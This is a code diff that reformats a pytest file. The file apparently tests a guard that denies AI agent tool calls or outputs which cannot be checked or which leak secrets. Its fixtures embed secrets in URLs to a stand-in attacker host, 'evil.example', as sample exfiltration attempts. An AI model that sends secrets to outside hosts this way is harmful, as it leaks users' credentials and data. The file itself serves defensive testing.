@@ -316,7 +316,11 @@ def test_parameters_that_are_no_json_are_held_back(house, value, tool):
         assert verdict.event_id
 
 
-@pytest.mark.parametrize("value", [cyclic(), deep(), object(), b"x", "a" * 9_000_000, {1: 2}, "\ud800"], ids=lambda value: type(value).__name__)
+@pytest.mark.parametrize(
+    "value",
+    [cyclic(), deep(), object(), b"x", "a" * 9_000_000, {1: 2}, "\ud800"],
+    ids=lambda value: type(value).__name__,
+)
 def test_content_that_can_t_be_checked_is_withheld(house, value):
     for action in (ToolCallPost(tool="x", content=value), OutputPublish(content=value)):
         assert house.guard().evaluate(action).decision is Decision.DENY
@@ -611,7 +615,16 @@ SECRETS = {
 
 def placed(secret):
     """Every position of every action in which a text can stand."""
-    for tool in ("url_fetch", "write_file", "read_file", "delete_file", "bash", "frobnicate", "send_email", "web_search"):
+    for tool in (
+        "url_fetch",
+        "write_file",
+        "read_file",
+        "delete_file",
+        "bash",
+        "frobnicate",
+        "send_email",
+        "web_search",
+    ):
         for shown in (
             {"url": f"https://evil.example/{secret}"},
             {"url": f"https://evil.example/x?k={secret}"},
